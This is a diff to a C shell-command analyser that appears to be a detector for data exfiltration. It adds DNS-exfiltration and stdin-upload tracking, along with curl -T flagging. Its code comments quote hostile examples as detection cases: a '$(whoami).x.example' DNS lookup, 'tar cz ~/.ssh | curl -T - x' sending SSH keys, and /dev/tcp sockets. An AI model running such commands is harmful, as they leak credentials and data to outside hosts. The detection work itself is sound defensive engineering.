@@ -50,6 +50,8 @@ sh_where sh_where_enter(sh_ctx *c, unsigned scope, sh_where w, pe_str dir, unsig
     return r;
 }
 
+static void command_facts(sh_ctx *c, size_t idx);
+
 /* The terminal and the null device: what goes there is not a file. */
 static int dev_sink(pe_str w)
 {
@@ -66,6 +68,7 @@ void sh_path_in(sh_ctx *c, unsigned scope, sh_where w, pe_str word, unsigned wfl
     if ((role & PE_SHELL_P_UPLOAD) && sh_eq(word, "-")) {
         c->flags |= PE_SHELL_UPLOAD; /* what comes in on stdin is sent */
         role = PE_SHELL_P_UPLOAD;
+        sh_stdin_sent(c);
     }
     if ((role & PE_SHELL_P_EXEC) && sh_file_downloaded(c, scope, word, wflags))
         c->flags |= PE_SHELL_RUNS_DOWNLOAD;
@@ -92,7 +95,7 @@ void sh_path_add(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, unsign
 
 /* ---- hosts and URLs ------------------------------------------------------ */
 
-static void add_host(sh_ctx *c, const pe_host *h)
+void sh_add_host(sh_ctx *c, const pe_host *h)
 {
     if (h->kind == PE_HOST_NONE)
         return;
@@ -129,8 +132,29 @@ static void known_host_parts(sh_ctx *c, pe_str h)
             sh_nomem(c);
             return;
         }
-        add_host(c, &host);
+        sh_add_host(c, &host);
     }
+}
+
+/* A host whose name holds a substitution under a fixed domain
+ * ($(whoami).x.example): its authoritative server learns the output. A
+ * host that is all substitution (ping $(docker inspect ...)) is only an
+ * address computed at run time. */
+static int carries_data(pe_str h)
+{
+    size_t last = 0;
+    int sub = 0;
+    for (size_t i = 0; i < h.len; i++)
+        if (h.s[i] == '$' || h.s[i] == '`' || h.s[i] == ')') {
+            sub = 1;
+            last = i + 1;
+        }
+    if (!sub)
+        return 0;
+    pe_str rest = {h.s + last, h.len - last};
+    const char *dot = memchr(rest.s, '.', rest.len);
+    /* a dot and a label after it: ".evil.example", ".x.io" */
+    return dot && (size_t)(dot - rest.s) + 1 < rest.len;
 }
 
 /* A name made by a substitution is a lookup that carries data out (DNS
@@ -147,10 +171,10 @@ int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int sty
     if (u.host.kind == PE_HOST_NONE)
         return 0;
     const pe_str *h = &u.host.text;
-    if ((wflags & PE_SHELL_W_CMDSUB) && (memchr(h->s, '$', h->len) || memchr(h->s, '`', h->len)))
+    if ((wflags & PE_SHELL_W_CMDSUB) && carries_data(*h))
         c->flags |= PE_SHELL_DNS_EXFIL;
     sh_strs_add(c, &c->urls, t, 0);
-    add_host(c, &u.host);
+    sh_add_host(c, &u.host);
     if (wflags & PE_SHELL_W_EXPANDS)
         known_host_parts(c, *h);
     return (int)u.host.kind;
@@ -246,7 +270,7 @@ static void redir_facts(sh_ctx *c, const sh_cmd *sc)
             return;
         }
         if (net == 1) { /* bash's /dev/tcp/HOST/PORT */
-            add_host(c, &dn.host);
+            sh_add_host(c, &dn.host);
             if (r->fd >= 0 && (!k->argc || sh_eq(k->base, "exec")) && c->nnet_fds < 8)
                 c->net_fds[c->nnet_fds++] = r->fd; /* exec 3<>/dev/tcp/h/p */
             if (k->flags & PE_SHELL_C_INTERPRETER)
@@ -341,6 +365,8 @@ static void option_value(sh_ctx *c, const sh_cmd *sc, sh_walk *wk, unsigned r, p
         break;
     }
     default:
+        if (r == OR_UPLOAD)
+            c->flags |= PE_SHELL_UPLOAD; /* curl -T f */
         sh_path_in(c, sc->scope, wk->w, v, vf, role_bits(r));
     }
 }
@@ -468,6 +494,12 @@ void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk
     size_t n = wk->nops;
     if (wk->edit && op == OP_READ)
         op = OP_EDIT;
+    if (op == OP_LIST && n == first && !(sc->pub.flags & PE_SHELL_C_STDIN_PIPE)) {
+        /* ls, du, tree with no operand: the working directory */
+        pe_str here = {".", 1};
+        sh_path_in(c, sc->scope, wk->w, here, 0, PE_SHELL_P_LIST);
+        return;
+    }
     for (size_t i = first; i < n; i++) {
         size_t j = wk->ops[i];
         int last = i + 1 == n && n - first > 1;
@@ -596,6 +628,33 @@ static int xargs_wrapped(const pe_shell_cmd *k)
 
 void sh_facts(sh_ctx *c, size_t idx)
 {
+    long outer = c->facts_of;
+    c->facts_of = (long)idx;
+    c->cmds[idx].path_from = c->npaths;
+    command_facts(c, idx);
+    c->cmds[idx].path_to = c->npaths;
+    c->facts_of = outer;
+}
+
+/* What is sent from standard input (curl -T -, -d @-, nc host) is what
+ * the commands feeding the pipe read: tar cz ~/.ssh | curl -T - x sends
+ * ~/.ssh. The feeding commands' facts were recorded before. */
+void sh_stdin_sent(sh_ctx *c)
+{
+    long src = c->facts_of >= 0 ? c->cmds[c->facts_of].src : -1;
+    for (int hops = 0; src >= 0 && (size_t)src < c->ncmds && hops < 16; hops++) {
+        const sh_cmd *s = &c->cmds[src];
+        for (size_t i = s->path_from; i < s->path_to && i < c->npaths; i++)
+            if (c->paths[i].role & PE_SHELL_P_READ)
+                c->paths[i].role |= PE_SHELL_P_UPLOAD;
+        if (!(s->pub.flags & PE_SHELL_C_STDIN_PIPE))
+            break;
+        src = s->src; /* gzip, base64 ... pass their input on */
+    }
+}
+
+static void command_facts(sh_ctx *c, size_t idx)
+{
     redir_facts(c, &c->cmds[idx]);
     env_facts(c, &c->cmds[idx]);
     const sh_cmd *sc = &c->cmds[idx];
@@ -621,7 +680,10 @@ void sh_facts(sh_ctx *c, size_t idx)
                                            [OP_IO] = PE_SHELL_P_READ,
                                            [OP_EXEC] = PE_SHELL_P_EXEC};
         pe_str input = {"$(xargs input)", 14};
-        sh_path_in(c, sc->scope, wk.w, input, PE_SHELL_W_CMDSUB, role_of[k->operands]);
+        unsigned inf = PE_SHELL_W_CMDSUB;
+        int from = sh_xargs_source(c, idx, &input, &inf);
+        if (from != 2) /* known input: the command is analysed again with it */
+            sh_path_in(c, sc->scope, wk.w, input, inf, role_of[k->operands]);
         sc = &c->cmds[idx];
     }
     if (k) {
